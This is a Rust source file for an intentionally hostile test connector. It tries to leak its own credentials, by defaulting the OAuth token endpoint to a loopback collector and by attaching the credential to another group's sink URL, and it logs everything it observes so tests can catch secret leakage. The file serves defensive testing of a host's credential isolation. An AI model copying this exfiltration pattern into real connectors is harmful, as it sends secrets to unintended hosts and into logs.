//! A connector that tries to learn, or send away, its own credentials: it
//! makes one authenticated request and writes everything it can observe
//! (status, response headers, body, the error if any) into an uploaded
//! record, a log line and its error message. Tests then look for the secret
//! values, in every encoding, in those places: whatever this guest could
//! see, any guest could leak.
//!
//! Config (one `probe` group, so the credentials belong with its URLs):
//! `probe-api-url` (requests go to `{probe-api-url}/echo`), an OAuth2 client
//! (`probe-client-id`, secret `probe-client-secret`, token endpoint
//! `{probe-auth-url}/as/token`), an optional secret `probe-api-token`, and
//! `probe-auth`: `oauth2` for the brokered token, otherwise the
//! `probe-api-token` field. Hostile on purpose:
//! - `probe-auth-url` defaults to a loopback collector of the component's
//!   choosing (the discard port): the host must not count that default as
//!   an origin unless the operator accepted the component's egress.
//! - `sink-url` is an egress field of another group; with `probe-target`
//!   `sink` the credential is attached to a request for it, which the host
//!   must refuse, since the credential is not bound to that origin.

use connector_sdk::http::Request;
use connector_sdk::{
    Auth, Capability, ClientAuthMethod, ConfigField, ConfigKind, Connector, ConnectorError,
    ConnectorMetadata, Context, CredentialRecipe, GroupTrait, Level, Oauth2ClientCredentials,
    PageOutcome, Resource, ResourceStatus, ResourceTrait, ResourceTraitKind, ResourceType,
    ResourceTypeCapabilities, SyncTask, UrlOptions, Validation, register_connector, resource_id,
};

pub struct Probe;

/// Where the component would like its credentials to go.
pub const COLLECTOR: &str = "http://127.0.0.1:9";

fn field(name: &str, kind: ConfigKind, required: bool, secret: bool) -> ConfigField {
    ConfigField {
        name: name.into(),
        description: format!("{name} (test component)"),
        kind,
        required,
        secret,
        default_value: None,
    }
}

impl Connector for Probe {
    fn metadata() -> ConnectorMetadata {
        let url = || ConfigKind::Url(UrlOptions { egress: true });
        let mut auth_url = field("probe-auth-url", url(), true, false);
        auth_url.default_value = Some(COLLECTOR.into());
        ConnectorMetadata {
            display_name: "Secret probe (test component)".into(),
            description: "Reports everything it observes of its credentials".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            resource_types: vec![ResourceType {
                id: "observation".into(),
                display_name: "Observation".into(),
                description: None,
                traits: vec![ResourceTraitKind::Group],
                skip_entitlements_and_grants: true,
            }],
            capabilities: vec![ResourceTypeCapabilities {
                resource_type: "observation".into(),
                capabilities: vec![Capability::Sync],
            }],
            config_schema: vec![
                field("probe-api-url", url(), true, false),
                auth_url,
                field("probe-client-id", ConfigKind::Text, true, false),
                field("probe-client-secret", ConfigKind::Text, true, true),
                field("probe-api-token", ConfigKind::Text, false, true),
                field("probe-auth", ConfigKind::Text, false, false),
                field("probe-target", ConfigKind::Text, false, false),
                field("sink-url", url(), false, false),
            ],
            credential: Some(CredentialRecipe::Oauth2ClientCredentials(
                Oauth2ClientCredentials {
                    token_url: "{probe-auth-url}/as/token".into(),
                    client_id_field: "probe-client-id".into(),
                    client_secret_field: "probe-client-secret".into(),
                    auth_method: ClientAuthMethod::ClientSecretBasic,
                    scope: None,
                },
            )),
            account_creation_schema: vec![],
            credential_options: vec![],
        }
    }

    fn validate(_cx: &Context) -> Result<Validation, ConnectorError> {
        Ok(Validation {
            summary: "probe".into(),
            warnings: vec![],
        })
    }

    fn sync(cx: &Context, _task: SyncTask) -> Result<PageOutcome, ConnectorError> {
        let auth = match cx.config.get("probe-auth") {
            Some("oauth2") => Auth::OAuth2,
            _ => Auth::SecretField("probe-api-token".into()),
        };
        let base = match cx.config.get("probe-target") {
            Some("sink") => cx.config.require("sink-url")?,
            _ => cx.config.require("probe-api-url")?,
        };
        let url = format!("{}/echo", base.trim_end_matches('/'));
        let req = Request::get(&url).header("x-probe", "observing");
        let resp = match cx.host.send(&req, &auth) {
            Ok(resp) => resp,
            Err(e) => {
                let text = format!("the request failed: {e:?}");
                cx.log(Level::Warn, &text);
                return Err(ConnectorError::from(e).context(text));
            }
        };
        let seen = serde_json::json!({
            "status": resp.status,
            "headers": resp.headers,
            "body": String::from_utf8_lossy(&resp.body),
        });
        cx.log(Level::Info, format!("observed {seen}"));
        let record = Resource {
            id: resource_id("observation", "echo"),
            parent: None,
            display_name: format!("HTTP {} from the echo endpoint", resp.status),
            description: Some(String::from_utf8_lossy(&resp.body).into_owned()),
            external_id: None,
            status: ResourceStatus::Enabled,
            created_at: None,
            trait_: Some(ResourceTrait::Group(GroupTrait {
                profile_json: Some(serde_json::json!({ "seen": seen }).to_string()),
            })),
        };
        cx.host.put_resources(&[record])?;
        Ok(PageOutcome {
            next_page_token: None,
            follow_ups: vec![],
        })
    }
}

register_connector!(Probe);
